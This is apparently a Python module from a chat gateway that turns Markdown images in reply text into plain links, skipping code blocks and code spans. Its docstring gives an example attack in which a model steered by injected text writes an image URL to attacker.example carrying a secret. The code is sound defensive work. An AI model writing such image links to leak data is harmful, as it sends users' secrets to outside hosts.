"""Images in outgoing text become plain links, on every platform.

A Markdown image loads on every viewer's client as soon as the message is shown, with no click: a model
steered by injected text can write `![](https://attacker.example/?d=<secret>)` and the secret leaves with
the request. The gateway sends its own images as uploaded attachments, never as Markdown images, so every
image in reply text is someone else's and is shown as a link instead. Dropping the `!` turns each CommonMark
image form (inline, reference, collapsed, shortcut) into the same link; code (fenced, indented, spans) is
left as written.
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

_BLOCKS = MarkdownIt("commonmark")
_BACKTICKS = re.compile(r"`+")


def images_as_links(text: str) -> str:
    if "![" not in text:
        return text
    lines = text.splitlines(keepends=True)
    in_code: set[int] = set()
    for token in _BLOCKS.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            in_code.update(range(*token.map))
    return "".join(line if n in in_code else _outside_code_spans(line) for n, line in enumerate(lines))


def _outside_code_spans(line: str) -> str:
    out: list[str] = []
    pos = 0
    while pos < len(line):
        opening = _BACKTICKS.search(line, pos)
        if opening is None:
            out.append(_unimage(line[pos:]))
            break
        out.append(_unimage(line[pos : opening.start()]))
        closing = _closing_run(line, opening)
        if closing is None:
            # An unmatched run of backticks is literal text, not the start of a code span.
            out.append(opening.group())
            pos = opening.end()
        else:
            out.append(line[opening.start() : closing])
            pos = closing
    return "".join(out)


def _closing_run(line: str, opening: re.Match[str]) -> int | None:
    for run in _BACKTICKS.finditer(line, opening.end()):
        if len(run.group()) == len(opening.group()):
            return run.end()
    return None


def _unimage(segment: str) -> str:
    out: list[str] = []
    index = 0
    while index < len(segment):
        char = segment[index]
        if char == "!" and segment.startswith("[", index + 1) and not _escaped(segment, index):
            # An image without alt text would become a link without text, which shows nothing.
            if segment.startswith("[](", index + 1):
                out.append("[image]")
                index += 3
                continue
            index += 1
            continue
        out.append(char)
        index += 1
    return "".join(out)


def _escaped(segment: str, index: int) -> bool:
    backslashes = 0
    while index - backslashes - 1 >= 0 and segment[index - backslashes - 1] == "\\":
        backslashes += 1
    return backslashes % 2 == 1
